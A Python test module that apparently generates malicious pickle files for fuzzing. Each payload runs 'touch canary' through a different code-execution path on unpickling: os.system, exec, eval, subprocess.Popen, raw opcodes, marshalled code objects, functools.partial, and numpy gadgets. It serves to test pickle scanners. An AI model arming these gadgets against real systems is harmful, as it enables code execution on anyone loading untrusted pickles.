"""Pickles that write a canary file when anything unpickles them, one per road into the interpreter."""

from __future__ import annotations

import marshal
import pickle
from pathlib import Path

from stress.fuzz.pickles import Call, Name, pickled

UNARMED = ("extension", "persistent-id")
"""These need a registry or a loader that has been prepared; a bare unpickler refuses them."""


def system(canary: Path) -> Call:
    """os.system("touch canary")"""
    return Call(Name("os", "system"), (f"touch {canary}",))


def payloads(canary: Path) -> dict[str, bytes]:
    """Pickles by the opcode or function that does the harm."""
    touch = f"open({str(canary)!r}, 'w').close()"
    command = f"touch {canary}"
    line = command.encode()
    partial = Call(Name("functools", "partial"), (Name("os", "system"), command))
    state = (Name("os", "system"), (command,), {}, None)
    restored = Call(Name("functools", "partial"), (print,), state, pickle.NEWOBJ)
    code = Call(Name("marshal", "loads"), (marshal.dumps(compile(touch, "x", "exec")),))
    function = Name("types", "FunctionType")
    array = (Name("numpy", "ndarray"), (0,), b"b")
    objects = (1, (1,), Call(Name("numpy", "dtype"), ("O8", False, True)), False, [system(canary)])
    name = b"\x8c\x02os\x94\x8c\x06system\x94\x93"
    return {
        "reduce": pickled(system(canary)),
        "reduce-protocol-2": pickled(system(canary), 2),
        "exec": pickled(Call(Name("builtins", "exec"), (touch,))),
        "python-2-eval": pickled(Call(Name("__builtin__", "eval"), (f"__import__('os').system({command!r})",)), 2),
        "popen": pickled(Call(Name("subprocess", "Popen"), (["touch", str(canary)],))),
        "inst": b"(S'" + line + b"'\nios\nsystem\n.",
        "obj": b"(cos\nsystem\nS'" + line + b"'\no.",
        "stack-global": b"\x80\x04" + name + b"\x8c" + bytes([len(line)]) + line + b"\x85R.",
        "newobj": pickled(Call(Call(function, (code, {}), None, pickle.NEWOBJ))),
        "build": pickled(Call(restored)),
        "getattr": pickled(Call(Call(Name("builtins", "getattr"), (Name("posixpath", "os"), "system")), (command,))),
        "partial": pickled(Call(partial)),
        "code-object": pickled(Call(Call(function, (code, {})))),
        "runstring": pickled(Call(Name("numpy.testing._private.utils", "runstring"), (touch, {}))),
        "object-array": pickled(Call(Name("numpy._core.multiarray", "_reconstruct"), array, objects)),
        "extension": b"\x80\x02\x82\x01(S'" + line + b"'\ntR.",
        "persistent-id": b"\x80\x02X\x05\x00\x00\x00touchQ.",
    }
